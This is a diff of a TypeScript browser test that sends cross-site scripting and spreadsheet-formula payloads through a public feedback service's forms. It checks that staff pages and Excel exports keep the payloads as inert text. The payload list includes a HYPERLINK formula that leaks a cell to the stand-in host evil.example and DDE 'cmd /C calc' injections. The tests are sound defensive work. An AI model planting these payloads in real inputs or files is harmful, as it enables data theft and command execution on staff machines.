@@ -18,7 +18,7 @@ const payloads = [
   '<a href="javascript:window.pwned=\'link\'">klikkaa</a>',
   '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
 ];
 const formulas = payloads.filter((p) => /^[=+@-]/.test(p));
 
@@ -26,21 +26,47 @@ describe('hostile input through every public form, read by staff in Chromium', (
   const w = browserSuite(async () => undefined, {
     demo: 'analysed',
     ready: async ({ db, app }) => {
-      const unit = (await db.query<{ code: string }>("select code from org_node where parent_id = (select id from org_node where code = 'TER-VAS') and kind = 'unit' order by code limit 1"))[0]!.code;
-      const qr = (await db.query<{ code: string }>("select cp.code from collection_point cp join org_node n on n.id = cp.node_id where n.code = $1 and cp.channel = 'qr' and cp.survey_id = 'thl-national'", [unit]))[0]!.code;
+      const unit = (
+        await db.query<{ code: string }>(
+          "select code from org_node where parent_id = (select id from org_node where code = 'TER-VAS') and kind = 'unit' order by code limit 1",
+        )
+      )[0]!.code;
+      const qr = (
+        await db.query<{ code: string }>(
+          "select cp.code from collection_point cp join org_node n on n.id = cp.node_id where n.code = $1 and cp.channel = 'qr' and cp.survey_id = 'thl-national'",
+          [unit],
+        )
+      )[0]!.code;
       const resident = new Client(app);
       for (const text of payloads) {
         // free-form feedback: text and name
-        const fb = await resident.post('/palaute', { action: 'send', category: 'TER', target: unit, text: `Palaute ${text}`, name: text.slice(0, 100), email: 'hyokkaaja@example.fi' }, { csrf: false });
+        const fb = await resident.post(
+          '/palaute',
+          { action: 'send', category: 'TER', target: unit, text: `Palaute ${text}`, name: text.slice(0, 100), email: 'hyokkaaja@example.fi' },
+          { csrf: false },
+        );
         assert.equal(fb.statusCode, 303, 'stored as text');
         // the survey's open answer
         const form = await resident.get(`/s/${qr}`);
         const nonce = /name="_nonce" value="([^"]+)"/.exec(form.body)![1]!;
         const steps = /\((\d+)\/(\d+)\)<\/title>/.exec(form.body)?.[2] ?? '2';
-        assert.equal((await resident.post(`/s/${qr}`, { _nonce: nonce, _step: steps, _lang: 'fi', _action: 'submit', q_nps: '3', q_nps_open: `Avoin ${text}` }, { csrf: false })).statusCode, 303);
+        assert.equal(
+          (
+            await resident.post(
+              `/s/${qr}`,
+              { _nonce: nonce, _step: steps, _lang: 'fi', _action: 'submit', q_nps: '3', q_nps_open: `Avoin ${text}` },
+              { csrf: false },
+            )
+          ).statusCode,
+          303,
+        );
         // a council application
         const call = (await db.query<{ id: number }>('select id from council_call limit 1'))[0]!.id;
-        await resident.post('/asiakasraati', { call: String(call), name: text.slice(0, 200), contact: 'hakija@example.fi', municipality: text.slice(0, 80), motivation: text, consent: 'yes' }, { csrf: false });
+        await resident.post(
+          '/asiakasraati',
+          { call: String(call), name: text.slice(0, 200), contact: 'hakija@example.fi', municipality: text.slice(0, 80), motivation: text, consent: 'yes' },
+          { csrf: false },
+        );
       }
       await refreshRollup(db);
       await analysePending(db, offlineProvider, Number.POSITIVE_INFINITY);
@@ -50,12 +76,19 @@ describe('hostile input through every public form, read by staff in Chromium', (
   /** Opens a page as staff and fails if anything the attacker wrote ran or became markup. */
   const assertInert = async (page: Page, url: string, mustShow: string) => {
     const dialogs: string[] = [];
-    page.on('dialog', (d) => void (dialogs.push(d.message()), d.dismiss()));
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
     await page.goto(url);
     await page.waitForLoadState('load');
     assert.equal(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned), undefined, `nothing ran on ${url}`);
     assert.deepEqual(dialogs, []);
-    assert.equal(await page.locator('main script, main iframe, main img[src="x"], main svg[onload], main a[href^="javascript:"]').count(), 0, `no markup from input on ${url}`);
+    assert.equal(
+      await page.locator('main script, main iframe, main img[src="x"], main svg[onload], main a[href^="javascript:"]').count(),
+      0,
+      `no markup from input on ${url}`,
+    );
     if (mustShow) assert.ok((await page.locator('main').innerText()).includes(mustShow), `the payload is shown as text on ${url}`);
   };
 
@@ -79,7 +112,10 @@ describe('hostile input through every public form, read by staff in Chromium', (
     await book.xlsx.load((await xlsx.body()) as unknown as ArrayBuffer);
     const cells: unknown[] = [];
     book.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c.value)));
-    assert.ok(cells.every((v) => typeof v !== 'object' || v === null || v instanceof Date), 'no formula cells');
+    assert.ok(
+      cells.every((v) => typeof v !== 'object' || v === null || v instanceof Date),
+      'no formula cells',
+    );
     for (const f of formulas) assert.ok(cells.includes(`'${f}`), `${f} kept as text`);
   });
 
